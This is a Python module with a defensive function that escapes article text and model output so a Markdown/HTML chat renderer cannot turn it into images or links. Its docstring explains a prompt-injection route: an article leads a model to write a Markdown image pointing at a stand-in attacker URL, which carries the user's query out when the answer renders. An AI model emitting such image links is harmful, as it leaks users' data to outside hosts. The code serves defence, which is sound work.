"""Article text (and what a model wrote from it) made inert for a Markdown + HTML renderer.

The chat renders Markdown, and an article or a model it manipulates can write
``![](https://attacker/?q=secret)``: the browser would fetch that image the moment the answer is shown,
and the URL can carry what the user asked. ``inert_markdown`` returns text that renders as exactly the
characters it had, with nothing for Markdown, HTML, GFM autolinks or LaTeX to act on: no image, no
link, no raw URL turned into a request. The app adds its own citation anchors around it afterwards.
"""

from __future__ import annotations

import re

# HTML's specials and Markdown's punctuation as character references, in one pass: CommonMark never
# reads a reference as structure ("![", "](", "*", "`", "|" …), and the browser shows the character.
_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;"} | {
    c: f"&#{ord(c)};" for c in "\\`*_{}[]()#+!|~$:@"}
_SPECIAL = re.compile("[" + re.escape("".join(_ESCAPES)) + "]")
_WWW = re.compile(r"(?i)\b(www)\.")  # GFM turns "www.x.com" into a link even without "://"


def inert_markdown(text: str) -> str:
    """``text`` escaped for HTML and for Markdown (see the module doc); line breaks are kept."""
    return _WWW.sub(r"\1&#46;", _SPECIAL.sub(lambda m: _ESCAPES[m.group(0)], text))
